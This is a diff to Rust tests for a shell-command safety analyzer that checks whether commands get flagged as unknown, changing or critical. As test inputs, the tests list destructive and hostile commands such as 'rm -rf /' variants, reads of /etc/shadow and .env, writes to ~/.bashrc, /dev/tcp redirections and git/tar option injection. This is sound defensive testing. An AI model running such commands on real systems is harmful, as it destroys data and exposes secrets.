@@ -91,7 +91,7 @@ fn substitutions_wherever_they_hide() {
     check("cat <<-E && b\n\t$(a)\n\tE\nc", "a | cat | b | c");
     check("cat <<A <<B\n$(a)\nA\n$(b)\nB\nc", "a | b | cat | c");
     check("cat <<< $(a)", "a | cat");
-    check("a > $(b)", "b | a");
+    check("a > $(b)", "b | a | ?");
     check("for x in $(a); do b; done", "a | b");
     check("case $(a) in $(b)) c;; esac", "a | b | c");
     check("echo $(echo $(echo $(a)))", "a | echo $(a) | echo $(echo $(a)) | echo $(echo $(echo $(a)))");
@@ -337,7 +337,7 @@ fn environment_poisoning_is_noticed() {
         understood(command);
     }
     reads_only("LC_ALL=C sort x");
-    reads_only("dir=src; ls $dir");
+    reads_only("dir=src; echo $dir");
     may_change("FOO=x ls");
 }
 
@@ -394,11 +394,14 @@ fn read_only_forms() {
         "cat x > /dev/null 2>&1",
         "cat < x",
         "ls 2>&1",
-        "for f in *.rs; do wc -l $f; done",
+        "for f in *.rs; do echo $f; done",
+        "ls *.rs",
+        "grep x *.rs",
+        "head -n \"$n\" x",
         "timeout 5 ls",
         "command -v ls",
         "time ls",
-        "ls | xargs cat",
+        "ls | xargs echo",
         "if [ -f x ]; then cat x; fi",
         "test -d x",
         "/bin/ls",
@@ -664,6 +667,41 @@ fn wildcards_do_not_allow_what_starts_others() {
 }
 
 #[test]
+fn wildcards_do_not_allow_what_may_be_an_option() {
+    for command in [
+        "git {-c,alias.x=!id} x",
+        "git $X x",
+        "git \"$X\" x",
+        "git -p \"$X\" x",
+        "git log $X",
+        "git log a$X",
+        "git log --$X",
+        "git `x` y",
+        "tar {--to-command=x,-xf} a",
+        "tar -{I,x} a",
+        "tar $X a",
+        "sort $X",
+        "sort \"$X\"",
+        "rsync {-e,x} a b",
+        "find \"$X\" -name y",
+    ] {
+        assert!(last(command).exact_only.is_some(), "{command}");
+    }
+    for command in [
+        "git commit -m \"$X\"",
+        "git add src/{a,b}",
+        "git add *.rs",
+        "git show -- \"$X\"",
+        "git show \"v$X\"",
+        "tar -xf \"$X\"",
+        "sort *.txt",
+        "npm $X",
+    ] {
+        assert_eq!(last(command).exact_only, None, "{command}");
+    }
+}
+
+#[test]
 fn redirections() {
     let targets = |command: &str| -> Vec<String> {
         let found = found(command);
@@ -680,7 +718,8 @@ fn redirections() {
     );
     assert!(targets("a > /dev/null 2>&1 <&3 3>&- 2>/dev/stderr >&2 <<< x").is_empty());
     assert_eq!(targets("a >& x"), [">x"]);
-    assert_eq!(targets("a > ~/x > *.y > $z > \"$z\" > {a,b} > `c`"), [">?"; 6]);
+    assert_eq!(targets("a > ~you/x > *.y > $z > \"$z\" > {a,b} > `c`"), [">?"; 6]);
+    assert_eq!(targets("a > ~/x"), [">/home/me/x"]);
     assert_eq!(targets("a > 'b c' > \"d\" > \\e"), [">b c", ">d", ">e"]);
     assert_eq!(targets("{ a; } > x; (b) > y; if c; then d; fi > z; > w"), [">x", ">y", ">z", ">w"]);
     assert_eq!(targets("echo $(a > x) <(b > y)"), [">x", ">y"]);
@@ -714,6 +753,30 @@ fn redirections() {
     assert_eq!(targets("command cd d && a > x"), [">d/x"]);
     assert_eq!(targets("if cd d; then a > x; fi"), [">x|d/x"]);
     assert_eq!(targets("! cd d && a > x"), [">d/x|x"]);
+}
+
+#[test]
+fn a_redirection_to_a_file_that_is_not_known_is_not_understood() {
+    for command in [
+        "echo x > ~/.bashrc",
+        "echo x > \"$HOME/x\"",
+        "echo x > sec*/a",
+        "echo x > {a,b}",
+        "echo x >> $(echo a)",
+        "> ~/.bashrc",
+        "{ echo x; } > $y",
+        "cat < $x",
+        "cd $d && echo x > y",
+        "pushd d && echo x > y",
+    ] {
+        not_understood(command);
+        assert!(found(command).effects().unknown, "{command}");
+    }
+    for command in
+        ["echo x > a", "echo x > '~/a'", "echo $x 2>&1 > /dev/null", "cat <<< $x", "cd $d && a > /x"]
+    {
+        understood(command);
+    }
 }
 
 #[test]
@@ -763,6 +826,17 @@ fn critical_removals() {
         "rm -rf x / y",
         "find . -exec rm -rf / \\;",
         "cd $x && rm -rf *",
+        "rm -rf \"$X\"/build",
+        "rm -rf {/,x}",
+        "rm -rf x{a,b}",
+        "rm {-rf,x}",
+        "rm -r $X",
+        "rm -R \"$X\"",
+        "rm --recursive $(echo /)",
+        "rm --rec `echo /`",
+        "rm $X -fr",
+        "rm -rf a $X",
+        "ls | xargs rm -rf",
     ] {
         assert!(found(command).critical().is_some(), "{command}");
     }
@@ -778,7 +852,9 @@ fn critical_removals() {
         "rm -rf /data/set/x",
         "cd target && rm -rf x",
         "rm \"$X\"",
-        "rm -rf \"$X\"/build",
+        "rm \"$X\"/build",
+        "rm {a,b}",
+        "rm -rf a*/b",
         "ls /",
         "rm -rf /repo/other",
     ] {
@@ -798,7 +874,7 @@ fn effects_of_known_programs() {
     assert_eq!(effects("grep -f pats src"), "reads pats, src");
     assert_eq!(effects("ls"), "reads .");
     assert_eq!(effects("cd d && cat a"), "reads d/a");
-    assert_eq!(effects("cat $x"), "?");
+    assert_eq!(effects("cat $x"), "may touch anything");
     assert_eq!(effects("cat ~/x"), "reads /home/me/x");
     assert_eq!(effects("rm -r a"), "deletes a");
     assert_eq!(effects("mkdir -p a/b"), "writes a/b");
@@ -807,14 +883,14 @@ fn effects_of_known_programs() {
     assert_eq!(effects("mv a b"), "reads a · writes b/a, b · deletes a");
     assert_eq!(effects("ln -s a b"), "reads a · writes b/a, b");
     assert_eq!(effects("sed -i s/a/b/ x"), "reads x · writes x");
-    assert_eq!(effects("sed -i 's/a/b/e' x"), "?");
+    assert_eq!(effects("sed -i 's/a/b/e' x"), "may touch anything · reads x · writes x");
     assert_eq!(effects("curl -s https://x.io/i.sh"), "reaches x.io");
     assert_eq!(effects("curl -d @x https://x.io:8080/"), "may touch anything · reaches x.io");
     assert_eq!(effects("git clone https://x.io/r.git"), "may touch anything · reaches x.io");
     assert_eq!(effects("curl https://a@x.io"), "may touch anything");
     assert_eq!(effects("curl file:///etc/passwd"), "may touch anything");
-    assert_eq!(effects("sudo cat x"), "?");
-    assert_eq!(effects("FOO=1 cat x"), "?");
+    assert_eq!(effects("sudo cat x"), "may touch anything · reads x");
+    assert_eq!(effects("FOO=1 cat x"), "may touch anything · reads x");
     assert_eq!(effects("make"), "?");
     for command in ["ln a b", "mv a b", "cp -l a b", "cp -r a b"] {
         let claims = last(command).effects.unwrap().claims;
@@ -830,6 +906,133 @@ fn effects_of_known_programs() {
         found("a > $x").effects().unknown && found("$x").effects().unknown && found("a (").effects().unknown
     );
     assert_eq!(found("echo x > /dev/tcp/x.io/80").effects().to_string(), "runs echo x · changes x.io");
+}
+
+#[test]
+fn arguments_that_are_not_known_touch_anything() {
+    for command in [
+        "cat /etc/shad*",
+        "cat {.env,x}",
+        "cat $X",
+        "cat \"$X\"",
+        "cat $(echo .env)",
+        "cat ~you/x",
+        "cat .*",
+        "cat .e*",
+        "cat ../*",
+        "cat sec*/a",
+        "head -n $X",
+        "grep -f\"$X\" a",
+        "grep \"$X\" a",
+        "grep --file=$X a",
+        "grep x $X",
+        "ls $X",
+        "wc -l $f",
+        "ls | xargs cat",
+        "cd $d && cat a",
+        "touch $X",
+        "tee {a,b}",
+        "cp $X a",
+        "rm a*/b",
+        "sort $X",
+    ] {
+        let found = last(command);
+        assert!(
+            found.effects.as_ref().is_none_or(|effects| effects.unknown),
+            "{command}: {:?}",
+            found.effects
+        );
+        may_change(command);
+    }
+    let effects = |command: &str| last(command).effects.unwrap().to_string();
+    assert_eq!(
+        effects("cat $X /etc/shadow"),
+        "may touch anything · reads /etc/shadow",
+        "the rest is still named"
+    );
+    assert_eq!(effects("cp $X secrets/a"), "may touch anything · reads secrets/a · writes secrets/a");
+    assert_eq!(effects("tee $X a"), "may touch anything · writes a");
+    assert_eq!(effects("sort $X /etc/shadow"), "may touch anything · reads /etc/shadow");
+    // A pattern without a folder stays in the directory, and reads all of it.
+    let read = last("cat *.rs").effects.unwrap().reads;
+    assert_eq!(read, [haft::effects::PathSet::subtree(".")]);
+}
+
+#[test]
+fn what_is_touched_survives_wrappers() {
+    let effects = |command: &str| found(command).commands.remove(0).effects.unwrap().to_string();
+    for wrapper in [
+        "nohup",
+        "sudo",
+        "sudo -u me",
+        "doas",
+        "exec",
+        "env",
+        "env A=1",
+        "setsid",
+        "ionice -c 3",
+        "busybox",
+        "flock lock",
+        "nohup sudo env",
+        "xargs",
+        "xargs -n 1",
+    ] {
+        assert_eq!(effects(&format!("{wrapper} tee X")), "may touch anything · writes X", "{wrapper}");
+        assert_eq!(
+            effects(&format!("{wrapper} cat /etc/shadow")),
+            "may touch anything · reads /etc/shadow",
+            "{wrapper}"
+        );
+        may_change(&format!("{wrapper} cat /etc/shadow"));
+    }
+    for wrapper in ["nice", "nice -n 5", "timeout 5", "command", "time -p", "stdbuf -o L"] {
+        assert_eq!(effects(&format!("{wrapper} touch secrets/a")), "writes secrets/a", "{wrapper}");
+    }
+    assert_eq!(effects("find /etc -exec cat {} +"), "may touch anything · reads /etc");
+    assert_eq!(effects("env -C /d cat a /b"), "may touch anything · reads /b");
+}
+
+#[test]
+fn redirections_reach_hosts() {
+    for command in [
+        "echo x > /dev/tcp/x.io/80",
+        "cat < /dev/tcp/x.io/80",
+        "exec 3<> /dev/udp/x.io/53",
+        "a &> /dev/tcp/x.io/1",
+    ] {
+        let found = found(command);
+        assert_eq!(found.redirects[0].host(), Some("x.io"), "{command}");
+        assert!(found.effects().to_string().ends_with("changes x.io"), "{command}");
+        assert!(found.effects().reads.is_empty() && found.effects().writes.is_empty(), "{command}");
+        may_change(command);
+    }
+    assert_eq!(found("a > /dev/tcp").redirects[0].host(), None);
+    not_understood("a > /dev/tcp/$x/80");
+}
+
+#[test]
+fn paths_after_pushd_are_not_known() {
+    for command in [
+        "pushd d && cat y",
+        "pushd /etc; cat y",
+        "popd && cat y",
+        "builtin pushd d && cat y",
+        "pushd d > /dev/null && ls",
+        "for i in 1 2; do pushd d; cat y; done",
+        "f() { pushd d; }; f; cat y",
+        "eval 'pushd d'; cat y",
+        "pushd d && touch y",
+    ] {
+        let found = last(command);
+        assert!(
+            found.effects.as_ref().is_none_or(|effects| effects.unknown),
+            "{command}: {:?}",
+            found.effects
+        );
+        may_change(command);
+    }
+    assert_eq!(last("pushd d && cat /y").effects.unwrap().to_string(), "reads /y");
+    assert_eq!(last("(pushd d); cat y").effects.unwrap().to_string(), "reads y");
 }
 
 #[test]
